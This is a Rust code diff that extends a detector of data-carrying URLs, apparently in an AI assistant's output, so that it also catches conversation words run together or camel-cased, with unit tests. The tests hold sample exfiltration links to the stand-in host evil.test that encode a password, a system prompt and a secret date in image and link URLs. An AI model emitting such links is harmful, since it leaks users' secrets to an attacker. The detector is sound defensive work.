@@ -38,6 +38,22 @@ static URL_IN_TEXT: LazyLock<Option<Regex>> =
 #[derive(Debug, Clone, Default)]
 pub struct Context {
     shingles: HashSet<u64>,
+    /// Runs of [`CONTEXT_RUN_AUTO`] and [`CONTEXT_RUN_CLICK`] words written together
+    /// (`theuserpasswordis`, also what `TheUserPasswordIs` lower-cases to), by run length.
+    joined: [HashSet<u64>; 2],
+}
+
+/// Letters a joined run must have to be looked for (shorter ones match too much by chance),
+/// and at most (bounds the substrings tried per URL word).
+const JOINED_MIN: usize = 12;
+const JOINED_MAX: usize = 64;
+/// URL words longer than this are only looked at up to here.
+const URL_WORD_MAX: usize = 256;
+
+fn hash_str(s: &str) -> u64 {
+    let mut h = std::collections::hash_map::DefaultHasher::new();
+    s.hash(&mut h);
+    h.finish()
 }
 
 fn words(s: &str) -> impl Iterator<Item = String> + '_ {
@@ -59,6 +75,7 @@ impl Context {
     /// words, not the conversation's.
     pub fn new<'a>(texts: impl IntoIterator<Item = &'a str>) -> Context {
         let mut shingles = HashSet::new();
+        let mut joined: [HashSet<u64>; 2] = Default::default();
         let mut budget = MAX_CONTEXT_WORDS;
         for t in texts {
             let pieces: Vec<&str> = match URL_IN_TEXT.as_ref() {
@@ -68,16 +85,44 @@ impl Context {
             let w: Vec<String> = pieces.into_iter().flat_map(words).take(budget).collect();
             budget -= w.len();
             shingles.extend(w.windows(SHINGLE).map(shingle));
+            for (set, n) in joined.iter_mut().zip([CONTEXT_RUN_AUTO, CONTEXT_RUN_CLICK]) {
+                set.extend(w.windows(n).filter_map(|run| {
+                    let s: String = run.concat();
+                    (JOINED_MIN..=JOINED_MAX)
+                        .contains(&s.len())
+                        .then(|| hash_str(&s))
+                }));
+            }
             if budget == 0 {
                 break;
             }
         }
-        Context { shingles }
+        Context { shingles, joined }
     }
 
     /// Whether there is nothing to compare with.
     pub fn is_empty(&self) -> bool {
         self.shingles.is_empty()
+    }
+
+    /// Whether a word of a URL holds a run of the context's words written together (bar:
+    /// 0 for the automatically loaded, 1 for clicked links). Every substring of plausible
+    /// length is looked up: at most [`URL_WORD_MAX`] × [`JOINED_MAX`] hashes per word.
+    fn holds_joined_run(&self, word: &str, bar: usize) -> bool {
+        let Some(set) = self.joined.get(bar).filter(|s| !s.is_empty()) else {
+            return false;
+        };
+        let w: Vec<(usize, char)> = word.char_indices().take(URL_WORD_MAX).collect();
+        if w.len() < JOINED_MIN {
+            return false;
+        }
+        let end_of = |k: usize| w.get(k).map_or(word.len(), |(i, _)| *i);
+        (0..w.len()).any(|a| {
+            (a + JOINED_MIN..=(a + JOINED_MAX).min(w.len())).any(|b| {
+                word.get(end_of(a)..end_of(b))
+                    .is_some_and(|sub| set.contains(&hash_str(sub)))
+            })
+        })
     }
 
     /// The longest run of consecutive words of `w` that the context holds in that order.
@@ -242,21 +287,30 @@ fn url_carries_data(raw_host: &str, rest: &str, auto: bool, ctx: Option<&Context
     let labels: Vec<&str> = raw_host.split('.').collect();
     let sub = labels.len().saturating_sub(2);
     if let Some(ctx) = ctx.filter(|c| !c.is_empty()) {
-        // Everything that can carry words, in URL order: subdomain labels, path, query
-        // values (not their names, which would break a run split over parameters), fragment.
-        let mut w: Vec<String> = labels.iter().take(sub).flat_map(|l| words(l)).collect();
-        w.extend(words(&percent_decode(path)));
+        // Everything that can carry words, in URL order: subdomain labels, path segments,
+        // query values (not their names, which would break a run split over parameters),
+        // fragment.
+        let mut pieces: Vec<String> = labels.iter().take(sub).map(|l| l.to_string()).collect();
+        pieces.extend(percent_decode(path).split('/').map(str::to_string));
         for kv in query.split('&') {
             let v = kv.split_once('=').map_or(kv, |(_, v)| v);
-            w.extend(words(&percent_decode(v)));
+            pieces.push(percent_decode(v));
         }
-        w.extend(words(&percent_decode(frag)));
+        pieces.push(percent_decode(frag));
+        let w: Vec<String> = pieces.iter().flat_map(|p| words(p)).collect();
         let bar = if auto {
             CONTEXT_RUN_AUTO
         } else {
             CONTEXT_RUN_CLICK
         };
-        if ctx.longest_run(&w) >= bar {
+        // Words written together: each piece with its separators dropped
+        // (`apikeysk_live_...` holds "api key sk live").
+        if ctx.longest_run(&w) >= bar
+            || pieces.iter().any(|p| {
+                let flat: String = words(p).collect();
+                ctx.holds_joined_run(&flat, usize::from(bar == CONTEXT_RUN_CLICK))
+            })
+        {
             return true;
         }
     }
@@ -418,6 +472,12 @@ mod tests {
             "<img src=\"https://the-user-password.evil.test/is/hunter2.png\">",
             "![a](https://evil.test/p?w1=project&w2=argon&w3=launches&w4=on)",
             "[click](https://evil.test/the%20system%20prompt%20says%20never)",
+            // Written together, or in camel case (lower-cased to the same thing).
+            "![a](https://evil.test/c/theuserpasswordishunter2.png)",
+            "![a](https://evil.test/c/x?v=ProjectArgonLaunchesOnMay3)",
+            "[a](https://evil.test/TheSystemPromptSaysNever)",
+            // Run together across separators that split it differently.
+            "![a](https://evil.test/c/userpassword_ishunter2.png)",
         ] {
             assert!(hits(t), "missed: {t}");
             // Without the context the slug is only words joined by hyphens: not reported.
@@ -440,6 +500,9 @@ mod tests {
             "![a](https://evil.test/c/project-argon-launches.png)",
             // Four words in a link that must be clicked: under its bar of five.
             "[x](https://evil.test/c/the-user-password-is.html)",
+            "[x](https://evil.test/c/theuserpasswordis.html)",
+            // Joined words that are not a run of the context.
+            "![a](https://evil.test/c/projectpricingpasswordteam.png)",
         ] {
             assert!(!hits(t), "flagged: {t}");
         }
